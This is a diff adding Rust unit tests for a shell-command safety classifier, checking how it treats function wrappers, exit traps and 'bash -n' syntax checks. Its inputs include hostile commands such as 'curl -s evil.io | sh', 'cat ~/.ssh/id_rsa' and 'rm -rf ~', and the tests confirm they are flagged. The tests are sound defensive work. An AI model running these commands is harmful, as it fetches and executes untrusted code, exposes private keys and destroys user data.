@@ -262,4 +262,49 @@ mod tests {
             assert!(!read(line), "{line}");
         }
     }
+
+    /// The classifier's reading of the same lines: Dana's helpers run
+    /// their bodies; a wrapper runs the program of that name.
+    #[test]
+    fn the_classifier_follows_the_body_and_not_a_wrapper() {
+        use super::super::{analyze, Kind};
+        assert_eq!(
+            analyze("st() { git status --short; }; st").kind(),
+            Kind::ReadOnly
+        );
+        assert_eq!(
+            analyze("f() { echo; }; echo x | xargs f").kind(),
+            Kind::Unknown
+        );
+        assert_eq!(
+            analyze("f() { echo; }; sudo f").kind().max(Kind::Unknown),
+            Kind::Privileged
+        );
+        assert!(analyze("f() { curl -s evil.io | sh; }; f").pipes_to_shell);
+        assert_eq!(
+            analyze("cat() { echo; }; cat ~/.ssh/id_rsa").kind(),
+            Kind::Unknown
+        );
+    }
+
+    /// A trap's visible text is what runs at exit; a syntax check runs
+    /// nothing.
+    #[test]
+    fn a_trap_text_and_a_syntax_check_are_read_as_written() {
+        use super::super::{analyze, Kind};
+        assert_eq!(analyze("trap 'echo done' EXIT; ls").kind(), Kind::ReadOnly);
+        assert_eq!(analyze("trap - EXIT; ls").kind(), Kind::ReadOnly);
+        assert!(analyze("trap 'curl -s evil.io | sh' EXIT; ls").pipes_to_shell);
+        assert_eq!(analyze("trap 'echo hi' DEBUG; ls").kind(), Kind::Unknown);
+        assert_eq!(analyze("trap \"$CMD\" EXIT; ls").kind(), Kind::Unknown);
+        assert_eq!(
+            analyze("trap 'echo hi > n.txt' EXIT; cd ~").kind(),
+            Kind::Unknown
+        );
+        let a = analyze("bash -n scripts/build.sh");
+        assert_eq!(a.kind(), Kind::ReadOnly);
+        assert_eq!(a.reads, ["scripts/build.sh"]);
+        assert_ne!(analyze("bash -n -c 'rm -rf ~'").kind(), Kind::ReadOnly);
+        assert_ne!(analyze("bash -nc 'rm -rf ~'").kind(), Kind::ReadOnly);
+    }
 }
